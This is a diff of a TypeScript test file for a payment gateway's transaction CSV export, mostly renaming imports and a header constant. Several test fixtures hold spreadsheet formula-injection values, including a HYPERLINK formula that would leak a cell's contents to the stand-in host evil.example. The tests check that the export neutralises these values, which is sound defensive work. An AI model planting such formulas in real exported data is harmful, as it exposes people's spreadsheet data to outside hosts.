@@ -6,10 +6,12 @@ import { afterEach, describe, expect, it } from "vitest";
 import type { DashboardActor } from "../../src/core/dashboard/access.ts";
 import { PaygateError } from "../../src/core/errors.ts";
 import { systemClock } from "../../src/core/gateway.ts";
-import type { Stores, TransactionListQuery } from "../../src/core/stores.ts";
-import { CSV_HEADER, csvCell, transactionsCsv } from "../../src/core/transactions/export.ts";
+import type { Stores } from "../../src/core/stores/index.ts";
+import type { TransactionListQuery } from "../../src/core/stores/transactions.ts";
+import { csvCell, transactionsCsv } from "../../src/core/transactions/export.ts";
 import { parseTransactionFilters } from "../../src/core/transactions/list.ts";
-import { HTTP_STATUS } from "../../src/http/status.ts";
+import { HTTP_STATUS } from "../../src/edge/status.ts";
+import { EXPORT_CSV_HEADER } from "../support/csv-export.ts";
 import { freshActor } from "../support/dashboard.ts";
 import { gatewayAndReceiverForFile, type TestGateway } from "../support/gateway.ts";
 import type { WebhookReceiver } from "../support/webhook-receiver.ts";
@@ -233,21 +235,7 @@ describe("the CSV export", () => {
     const all = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys, "viewer"), false, { q: "paid@example.com" }));
     expect(all.records).toHaveLength(2);
     const [header, row] = all.records as [string[], string[]];
-    expect(header).toEqual(CSV_HEADER);
-    expect(header.slice(0, 12)).toEqual([
-      "id",
-      "reference",
-      "created_at",
-      "status",
-      "mode",
-      "amount",
-      "currency",
-      "payment_amount",
-      "payment_currency",
-      "amount_paid",
-      "amount_unconfirmed",
-      "customer_email",
-    ]);
+    expect(header).toEqual(EXPORT_CSV_HEADER);
     const cell = (name: string) => row[header.indexOf(name)];
     const stored = await t.db.transaction.findUniqueOrThrow({ where: { id: paid.id } });
     expect(cell("id")).toBe(paid.id);
@@ -269,22 +257,22 @@ describe("the CSV export", () => {
 
     const usd = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), false, { currency: "usd", q: "plain@example.com" }));
     expect(usd.records.slice(1).map((r) => r[0])).toEqual([plain.id]);
-    expect(usd.records[1]?.[CSV_HEADER.indexOf("amount")]).toBe("12.5");
+    expect(usd.records[1]?.[EXPORT_CSV_HEADER.indexOf("amount")]).toBe("12.5");
 
     const ngn = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), false, { currency: "NGN" }));
     expect(ngn.records.slice(1).map((r) => r[0])).toEqual([tricky.id]);
     const trickyRow = ngn.records[1]!;
-    expect(trickyRow[CSV_HEADER.indexOf("customer_name")]).toBe(`'=HYPERLINK("http://evil.example","click")`);
-    expect(trickyRow[CSV_HEADER.indexOf("description")]).toBe('Order "42", two lines\r\nsecond line');
-    expect(trickyRow[CSV_HEADER.indexOf("payment_amount")]).toBe("");
+    expect(trickyRow[EXPORT_CSV_HEADER.indexOf("customer_name")]).toBe(`'=HYPERLINK("http://evil.example","click")`);
+    expect(trickyRow[EXPORT_CSV_HEADER.indexOf("description")]).toBe('Order "42", two lines\r\nsecond line');
+    expect(trickyRow[EXPORT_CSV_HEADER.indexOf("payment_amount")]).toBe("");
     expect(ngn.text.endsWith("\r\n")).toBe(true);
 
     // No filter: the mode's whole set, newest first.
     const everything = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), false, {}));
     expect(everything.records).toHaveLength(5);
     const live = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), true, {}));
-    expect(live.records.slice(1).map((r) => r[CSV_HEADER.indexOf("customer_email")])).toEqual(["live@example.com"]);
-    expect(live.records[1]?.[CSV_HEADER.indexOf("mode")]).toBe("live");
+    expect(live.records.slice(1).map((r) => r[EXPORT_CSV_HEADER.indexOf("customer_email")])).toEqual(["live@example.com"]);
+    expect(live.records[1]?.[EXPORT_CSV_HEADER.indexOf("mode")]).toBe("live");
   });
 
   it("refuses a bad filter or a page parameter with 400 before any row is read, and shows another merchant nothing", async () => {
@@ -299,7 +287,7 @@ describe("the CSV export", () => {
         "Invalid query parameters: limit is not a parameter of this list; created[gte] must be an ISO 8601 date-time with a time zone, e.g. 2026-11-01T00:00:00Z",
     });
     const theirs = await csvOf(await t.gateway.exportTransactionsCsv(actor(other, "viewer"), false, {}));
-    expect(theirs.records).toEqual([CSV_HEADER]);
+    expect(theirs.records).toEqual([EXPORT_CSV_HEADER]);
   });
 
   it("reads the database in keyset pages, in order and without duplicates, also across rows made in the same millisecond", async () => {
@@ -348,7 +336,7 @@ describe("the CSV export", () => {
     });
     const { records } = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), false, {}));
     const row = records[1] as string[];
-    const cell = (name: string) => row[CSV_HEADER.indexOf(name)];
+    const cell = (name: string) => row[EXPORT_CSV_HEADER.indexOf(name)];
     expect(cell("customer_name")).toBe("Ann|'@SUM(1)");
     expect(cell("description")).toBe(`Refund;'=HYPERLINK("http://evil.example?leak="&A1,"Error: click")`);
     const stored = await t.db.transaction.findUniqueOrThrow({ where: { id: typed.id } });
